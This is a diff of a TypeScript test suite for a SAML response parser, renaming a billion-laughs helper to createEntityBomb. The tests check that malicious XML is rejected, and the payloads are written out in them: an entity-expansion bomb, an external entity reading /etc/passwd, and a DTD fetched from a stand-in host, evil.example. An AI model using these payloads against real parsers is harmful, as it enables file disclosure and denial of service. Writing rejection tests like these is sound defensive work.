@@ -232,7 +232,7 @@ describe('a SAML response', () => {
   )
 
   test.each([
-    ['entities that unpack to gigabytes', billionLaughs()],
+    ['entities that unpack to gigabytes', createEntityBomb()],
     ['an entity of a file', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
     ['a document type of another host', '<!DOCTYPE r SYSTEM "http://evil.example/r.dtd">'],
   ])('with %s is rejected before it is unpacked', async (_what, doctype) => {
@@ -279,7 +279,7 @@ test('none of these attacks signed in, created or changed the victim', async () 
   expect(accounts).toEqual([{ email: 'mallory@halden-power.example' }])
 })
 
-function billionLaughs(): string {
+function createEntityBomb(): string {
   const entities = Array.from({ length: 9 }, (_, level) => {
     const inner = level === 0 ? 'lol' : `&l${level - 1};`.repeat(10)
     return `<!ENTITY l${level} "${inner}">`
